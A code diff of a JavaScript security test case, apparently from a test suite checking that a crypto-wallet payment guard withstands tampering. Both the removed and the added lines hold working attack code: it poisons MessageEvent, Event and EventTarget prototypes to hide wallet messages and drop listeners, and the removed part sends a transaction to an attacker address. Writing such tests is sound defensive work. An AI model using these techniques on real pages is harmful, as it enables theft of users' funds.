@@ -1,60 +1,39 @@
 // T4: event getters and event targets hide a message from whoever listens.
 import { reachedWallet } from './logs.mjs';
+import { allAtOnce } from './poison.mjs';
 
 export default {
   id: 'T4',
   title: 'EventTarget, Event and MessageEvent poisoned',
-  source: 'guards that call the page\'s own intrinsics',
+  source: "guards that call the page's own intrinsics",
   level: 'prevented',
   policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
 
-  async attack(a) {
-    const post = window.postMessage.bind(window);
-    const request = window.ethereum.request.bind(window.ethereum);
-    const call = (to) => ({ method: 'eth_sendTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
-    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 6000, ...call(a.EVIL) } } };
-    const undo = [];
-    const poison = (holder, key, make) => {
-      try {
-        const descriptor = Object.getOwnPropertyDescriptor(holder, key);
-        const field = descriptor.get ? 'get' : 'value';
-        Object.defineProperty(holder, key, { ...descriptor, [field]: make(descriptor[field]) });
-        undo.push([holder, key, descriptor]);
-      } catch {
-        // Pinned, or not in this engine.
-      }
-    };
-    const { apply, defineProperty } = Reflect;
-    // An approval comes first: what it leaves behind must not help.
-    await request(call(a.GOOD)).catch(() => {});
+  attack: allAtOnce((_a, poison) => {
+    const { apply } = Reflect;
     const add = EventTarget.prototype.addEventListener;
-    poison(MessageEvent.prototype, 'data', (genuine) => function () {
-      const data = apply(genuine, this, []);
-      // The wallet reads with the getter it kept, so only a careless listener is lied to.
-      return data?.target === 'metamask-contentscript' ? null : data;
-    });
+    poison(
+      MessageEvent.prototype,
+      'data',
+      (genuine) =>
+        function () {
+          const data = apply(genuine, this, []);
+          // The wallet reads with the getter it kept, so only a careless listener is lied to.
+          return data?.target === 'metamask-contentscript' ? null : data;
+        },
+    );
     poison(Event.prototype, 'isTrusted', () => () => true);
     poison(Event.prototype, 'type', () => () => 'harmless');
-    poison(EventTarget.prototype, 'addEventListener', () => function (type, listener, options) {
-      return type === 'message' ? undefined : apply(add, this, [type, listener, options]);
-    });
+    poison(
+      EventTarget.prototype,
+      'addEventListener',
+      () =>
+        function (type, listener, options) {
+          return type === 'message' ? undefined : apply(add, this, [type, listener, options]);
+        },
+    );
     poison(window, 'CustomEvent', (Genuine) => class extends Genuine {});
-    const asked = [];
-    try {
-      post(message, '*');
-    } catch {
-      // Refused.
-    }
-    try {
-      asked[0] = request(call(a.EVIL));
-    } catch {
-      // Refused.
-    }
-    const settled = asked[0] ? asked[0].then((value) => value, (error) => error?.code) : undefined;
-    await new Promise((resolve) => setTimeout(resolve, 100));
-    for (let index = undo.length - 1; index >= 0; index -= 1) defineProperty(undo[index][0], undo[index][1], undo[index][2]);
-    return settled;
-  },
+  }),
 
   async action(a, app) {
     return app.pay(a.GOOD, 5n);
